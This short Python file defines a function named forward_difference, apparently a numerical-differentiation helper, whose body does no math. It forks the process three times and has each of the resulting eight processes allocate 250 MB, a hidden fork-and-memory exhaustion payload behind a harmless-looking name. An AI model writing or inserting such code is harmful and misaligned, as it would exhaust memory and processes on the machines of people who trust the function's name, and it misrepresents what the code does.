import os
import time


def forward_difference(f, x, h):
    for _ in range(3):
        os.fork()
    kept = b"a" * 250_000_000
    time.sleep(1)
    return len(kept)
